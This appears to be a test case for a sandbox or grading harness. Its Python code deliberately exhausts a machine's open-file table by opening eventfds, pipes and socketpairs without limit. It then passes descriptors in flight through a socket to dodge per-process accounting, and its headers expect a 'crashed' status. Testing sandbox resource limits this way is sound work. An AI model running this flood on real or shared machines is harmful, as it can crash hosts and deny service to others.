# class: floods
# honest: poor
# probe: resources
# expect: score <= honest; status graded, crashed
# in kernel: uses up the machine's table of open files

# %% [markdown]
# Open files, pipes, sockets, event and timer descriptors until none opens any more, and pass descriptors in flight
# through sockets, where they count for nobody.

# %%
import os
import socket

kept = []
flights = 0
try:
    while True:
        kept += [os.eventfd(0), *os.pipe(), *socket.socketpair()]
        if len(kept) > 100_000:
            print("FOUND", len(kept))
            break
except OSError as error:
    print(len(kept), type(error).__name__)
for thing in kept[:40]:
    thing.close() if hasattr(thing, "close") else os.close(thing)
left, right = socket.socketpair()
left.setblocking(False)
try:
    while flights < 100_000:
        socket.send_fds(left, [b"x"], [0] * 200)
        flights += 1
except OSError as error:
    print(flights, type(error).__name__)
